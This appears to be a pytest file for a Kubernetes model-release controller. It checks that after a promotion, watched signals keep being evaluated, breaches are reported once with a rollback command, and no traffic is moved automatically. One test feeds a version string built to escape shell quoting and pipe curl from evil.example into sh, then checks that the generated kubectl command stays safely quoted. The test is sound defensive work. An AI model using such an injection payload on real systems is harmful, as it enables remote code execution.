"""After the promotion: watched signals go on, a breach is told once, and nothing is moved by itself."""

import json
import shlex
from datetime import datetime, timedelta

import pytest

from surefoot.api.spec import ModelReleaseSpec
from surefoot.api.status import PastRelease
from surefoot.engine.questions import Problem, ProblemKind
from surefoot.engine.rollback import command
from surefoot.stats.measures import Histogram, LabeledScores
from tests.scenarios.memory import CrashError
from tests.scenarios.specs import candidate, errors, workload
from tests.scenarios.world import NO_PROMETHEUS, new_world

# 60 intervals of 10 s: a look every ten minutes.
LOOK = 600
EDGES = (0.25, 0.5, 0.75)


def watched(*signals, **changes):
    """Fast steps; errors are watched for a day unless other signals are given."""
    listed = signals or (errors(watch={"for": "1d"}),)
    return new_world(signals=list(listed), **changes)


async def promoted(*signals, **changes):
    world = watched(*signals, **changes)
    await world.until("Idle")
    world.events.clear()
    world.writes.clear()
    return world


def entry(world, name="errors"):
    return next(s for s in world.status["watch"]["signals"] if s["name"] == name)


def command_of(world):
    """The `-p` of the command in the condition."""
    message = next(c for c in world.status["conditions"] if c["type"] == "Watched")["message"]
    words = shlex.split(message[message.index("kubectl patch") :])
    assert words[:6] == [
        "kubectl", "patch", "modelreleases.surefoot.dev", "fraud", "-n", "risk",
    ]  # fmt: skip
    return json.loads(words[words.index("-p") + 1])


def merged(spec, patch):
    """RFC 7386, as the API server does it."""
    found = dict(spec)
    for key, value in patch.items():
        if value is None:
            found.pop(key, None)
        elif isinstance(value, dict):
            found[key] = merged(found.get(key) or {}, value)
        else:
            found[key] = value
    return found


async def test_a_healthy_version_is_watched_and_nothing_is_told():
    world = await promoted()
    await world.run(2 * LOOK, every=60)
    assert world.condition("Watched") == ("True", "Watching")
    assert entry(world)["verdict"] == "Pass"
    assert world.events == []


async def test_a_breach_is_told_once_with_a_command_and_moves_nothing():
    world = await promoted()
    world.reads(200)
    await world.run(5 * LOOK, every=60)
    assert world.reasons() == ["WatchBreach"]
    assert world.events[0].warning
    assert "0.2, the limit is ≤ 0.05" in world.events[0].message
    assert "No traffic was moved; to go back to fraud-v41" in world.events[0].message
    assert world.condition("Watched") == ("False", "WatchBreach")
    assert world.condition("Ready")[0] == "True"
    assert "route" not in world.writes
    assert world.weight() == 100


async def test_the_command_goes_back_to_the_version_before():
    world = await promoted()
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    patch = command_of(world)
    world.reads(1)
    world.spec = merged(world.spec, patch["spec"])
    world.apply()
    await world.tick(10)
    await world.until("Idle")
    assert world.status["incumbent"]["workload"] == "fraud-v41"
    assert "RolledBack" in world.decided()
    assert world.weight() == 100
    assert world.condition("Watched")[0] != "False"


async def test_a_version_cannot_end_the_quotes_of_the_command():
    version = "1';curl${IFS}evil.example|sh;'"
    target = PastRelease(
        id="a", version=version, workload="fraud-v41", backend={"name": "fraud-v41", "port": 80},
        fingerprint="f", outcome="Promoted", reason="Promoted", ended_at="2026-01-01T00:00:00Z",
    )  # fmt: skip
    world = await promoted()
    made = command(ModelReleaseSpec.model_validate(world.spec), "risk", "fraud", target)
    *words, patch = shlex.split(made)
    assert words == [
        "kubectl", "patch", "modelreleases.surefoot.dev", "fraud", "-n", "risk", "--type=merge", "-p",
    ]  # fmt: skip
    assert json.loads(patch)["spec"]["candidate"]["version"] == version


async def test_a_signal_without_watch_is_left_alone_after_the_promotion():
    world = await promoted(errors(), errors("other", watch={"for": "1d"}))
    world.metrics.asked.clear()
    await world.run(2 * LOOK, every=60)
    assert {q.signal.name for asked in world.metrics.asked for q in asked} == {"other"}


async def test_without_any_watch_there_is_no_condition_and_no_question():
    world = await promoted(errors())
    world.metrics.asked.clear()
    world.reads(900)
    await world.run(2 * LOOK, every=60)
    assert world.metrics.asked == []
    assert "watch" not in world.status
    assert "Watched" not in [c["type"] for c in world.status["conditions"]]


async def test_it_is_looked_at_slowly_and_never_before_the_promotion():
    world = await promoted()
    since = world.status["watch"]["since"]
    world.metrics.asked.clear()
    await world.run(4 * LOOK, every=60)
    assert 3 <= len(world.metrics.asked) <= 5
    starts = {q.start for asked in world.metrics.asked for q in asked}
    assert starts == {datetime.fromisoformat(since)}
    assert {q.incumbent.workload for asked in world.metrics.asked for q in asked} == {"fraud-v42"}


async def test_the_watch_ends_and_the_condition_says_so():
    world = await promoted(errors(watch={"for": "1h"}))
    await world.run(3600, every=60)
    world.metrics.asked.clear()
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    assert world.metrics.asked == []
    assert world.condition("Watched") == ("True", "WatchOver")


async def test_labels_of_two_months_are_judged_from_then_on():
    late = {
        "name": "calibration", "type": "Calibration", "source": {"preset": "model-server"},
        "labelDelay": "60d", "threshold": {"min": 0.9, "max": 1.1, "window": "1d"},
        "watch": {"for": "90d"},
    }  # fmt: skip
    world = watched(errors(), late)
    world.measures[("calibration", "both")] = LabeledScores(50.0, 100.0, 1000.0)
    await world.until("Idle")
    begun = world.now
    world.events.clear()
    assert entry(world, "calibration")["verdict"] == "NotDue"
    await world.run(timedelta(days=59).total_seconds(), every=86_400)
    assert entry(world, "calibration")["verdict"] == "NotDue"
    assert world.condition("Watched") == ("Unknown", "Watching")
    assert world.events == []
    await world.run(timedelta(days=2).total_seconds(), every=43_200)
    assert world.reasons() == ["WatchBreach"]
    asked = [q for each in world.metrics.asked for q in each if q.signal.name == "calibration"]
    assert asked[-1].start - begun >= timedelta(days=59, hours=23)


async def test_drift_goes_on_against_the_bins_that_were_frozen():
    drift = {
        "name": "drift", "type": "Drift", "source": {"preset": "model-server"},
        "threshold": {"max": 0.25, "window": "30s"}, "watch": {"for": "30d"},
    }  # fmt: skip
    world = watched(drift)
    world.measures[("drift", "both")] = Histogram(EDGES, (400.0, 300.0, 200.0, 100.0))
    await world.until("Idle")
    # What the old incumbent may still report is not looked at.
    world.measures[("drift", "both")] = Histogram(EDGES, (100.0, 200.0, 300.0, 400.0))
    await world.run(2 * LOOK, every=60)
    assert world.condition("Watched") == ("False", "WatchBreach")
    assert entry(world, "drift")["frozen"]["counts"] == [400.0, 300.0, 200.0, 100.0]


async def test_consecutive_breaches_of_the_bake_do_not_count():
    world = watched(
        errors(watch={"for": "1d"}, onBreach="Observe", threshold={"consecutive": 3}),
    )
    await world.until("Baking")
    world.reads(200)
    await world.run(20)
    await world.until("Idle")
    world.events.clear()
    await world.run(LOOK, every=60)
    assert entry(world)["breaches"] < 3
    assert world.events == []
    await world.run(3 * LOOK, every=60)
    assert world.reasons() == ["WatchBreach"]


@pytest.mark.parametrize(
    ("trouble", "verdict"),
    [(NO_PROMETHEUS, "Error"), (Problem(ProblemKind.EMPTY, "no samples"), "NoData")],
)
async def test_what_cannot_be_seen_is_unknown_and_no_breach(trouble, verdict):
    world = await promoted()
    world.trouble = trouble
    await world.run(2 * LOOK, every=60)
    assert entry(world)["verdict"] == verdict
    assert world.condition("Watched") == ("Unknown", "WatchBlind")
    assert world.events == []


async def test_a_breach_that_ends_is_told_again_when_it_comes_back():
    world = await promoted()
    for bad in (200, 1, 200):
        world.reads(bad)
        await world.run(2 * LOOK, every=60)
    assert world.reasons() == ["WatchBreach", "WatchBreach"]


async def test_a_restart_neither_forgets_nor_tells_twice():
    world = await promoted()
    world.reads(200)
    world.crash_after = 1
    with pytest.raises(CrashError):
        await world.run(2 * LOOK, every=60)
    world.metrics.last = None
    await world.run(3 * LOOK, every=60)
    # It was killed after the status was written and before the Event: told at most once.
    assert len(world.reasons()) <= 1
    assert world.condition("Watched") == ("False", "WatchBreach")


async def test_the_watch_outlives_a_release_that_was_reverted():
    world = await promoted()
    await world.run(LOOK, every=60)
    since = world.status["watch"]["since"]
    world.workloads["fraud-v43"] = workload("fraud-v43")
    world.services["fraud-v43"] = (80,)
    world.reads(900)
    world.apply(candidate=candidate("43"), incumbent=None)
    await world.until("Reverted")
    world.reads(1)
    world.apply(candidate=candidate("42"))
    await world.until("Idle")
    world.events.clear()
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    assert world.status["watch"]["since"] == since
    assert world.reasons() == ["WatchBreach"]


async def test_the_next_promotion_is_watched_anew():
    world = await promoted()
    await world.run(LOOK, every=60)
    since = world.status["watch"]["since"]
    world.workloads["fraud-v43"] = workload("fraud-v43")
    world.services["fraud-v43"] = (80,)
    world.apply(candidate=candidate("43"), incumbent=None)
    await world.tick(10)
    await world.until("Idle")
    await world.run(30)
    assert world.status["watch"]["since"] > since
    assert world.status["watch"]["version"] == "43"


async def test_what_was_only_adopted_is_not_watched():
    world = watched(candidate=candidate("41"), incumbent=None)
    await world.run(60)
    world.reads(900)
    await world.run(2 * LOOK, every=60)
    assert world.phase == "Idle"
    assert "watch" not in world.status


async def test_a_suspended_release_is_not_watched():
    world = await promoted()
    world.apply(suspend=True)
    world.reads(900)
    await world.run(3 * LOOK, every=60)
    assert "WatchBreach" not in world.reasons()


async def test_without_a_version_in_the_window_no_command_is_made_up():
    world = await promoted(rollbackWindow=0)
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    assert "rollbackWindow holds no version to go back to" in world.events[0].message


async def test_an_invalid_spec_keeps_what_was_seen():
    world = await promoted()
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    world.apply(steps=[])
    await world.run(LOOK, every=60)
    assert world.condition("Watched") == ("False", "WatchBreach")


async def test_a_watch_that_is_taken_out_of_the_spec_is_over():
    world = await promoted()
    world.apply(signals=[errors()])
    await world.run(60)
    assert "watch" not in world.status


async def test_lineage_goes_with_the_version_that_it_belongs_to():
    world = await promoted(candidate=candidate("42", lineage={"run": "runs:/42"}))
    world.reads(200)
    await world.run(2 * LOOK, every=60)
    assert command_of(world)["spec"]["candidate"]["lineage"] is None
